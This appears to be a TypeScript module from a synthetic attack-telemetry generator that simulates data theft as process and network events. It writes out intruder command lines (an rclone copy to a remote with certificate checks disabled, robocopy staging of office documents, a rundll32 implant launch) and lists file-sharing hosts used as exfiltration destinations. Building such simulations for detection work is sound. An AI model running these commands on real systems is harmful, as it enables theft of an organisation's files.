/** Steps that several kinds of theft share. */
import { between } from './chance.ts';
import type { Conversation } from './flow-of.ts';
import type { Heist, Packed } from './heist.ts';
import { HOUR, MINUTE, SECOND } from './scene.ts';

export const answer = { received: 60_000 };
export const to = (h: Heist, name: string, packed: Packed, more: Partial<Conversation> = {}): Conversation => ({
  name,
  sent: h.wire(packed.size),
  ...answer,
  ...more,
});
export const signedRclone = { originalName: 'rclone.exe', product: 'Rclone', company: 'https://rclone.org' };

export function rclone(
  h: Heist,
  packed: Packed,
  name: string,
  remote: string,
  more: Partial<Conversation> = {},
  file = 'rclone.exe',
  at?: number,
): void {
  const line = `${file} copy ${h.random.chance(0.5) ? packed.path : h.folder} ${remote} --transfers 4 --no-check-certificate`;
  h.sendFile(h.dropped(file, 'go', signedRclone), line, packed, to(h, name, packed, more), at);
}

export const mega = (h: Heist): string =>
  `gfs${200 + h.random.below(90)}n${100 + h.random.below(60)}.userstorage.mega.co.nz`;
export const sharing = (h: Heist): string =>
  h.random.pick(['file.io', 'transfer.sh', 'store9.gofile.io', 'upload.ufile.io', 'temp.sh', 'litterbox.catbox.moe']);

/** A program of the intruder's that stays and calls home; what is packed in a shell beside it, it sends by itself. */
export function implant(
  h: Heist,
  program: Parameters<Heist['dropped']>,
  conversation: Partial<Conversation>,
  image?: 'rundll32',
): void {
  const { scene, random } = h;
  const proc = scene.start(image ?? h.dropped(...program), h.at - between(random, 5, 90) * MINUTE, {
    parent: h.foothold(h.at - 2 * HOUR),
    ...(image ? { commandLine: `rundll32.exe ${h.folder}\\${h.name}.dll,Start` } : {}),
  });
  const server = h.ownServer();
  for (let i = 0; i < 4; i++)
    beacon(h, () =>
      scene.send(proc, h.at - (i + 1) * 55 * SECOND, { name: server, sent: 900, received: 4_000, ...conversation }),
    );
  const packed = h.pack();
  const at = packed.end + h.pause;
  scene.read(proc, at, packed.path, { size: packed.size });
  scene.send(proc, at + SECOND, to(h, server, packed, conversation));
}

/** The call home is not the theft. */
function beacon(h: Heist, call: () => void): void {
  const { theft } = h.scene;
  h.scene.theft = undefined;
  call();
  h.scene.theft = theft;
}

/** Documents copied into one folder, as far as the feed tells of files. */
export function stagedCopy(h: Heist): string {
  const { scene, random } = h;
  const folder = `${h.folder}\\${h.name}`;
  const copier = scene.start('robocopy', h.at, {
    parent: h.shell,
    commandLine: `robocopy \\\\fs01\\projects ${folder} *.docx *.xlsx *.pdf /S`,
  });
  const many = 40 + random.below(60);
  for (let i = 0; i < many; i++)
    scene.write(
      copier,
      h.at + i * 600_000,
      `${folder}\\${i}-${random.below(1e5)}.${random.pick(['docx', 'xlsx', 'pdf'])}`,
      { size: h.size / many },
    );
  scene.end(copier, h.at + 2 * MINUTE);
  return folder;
}
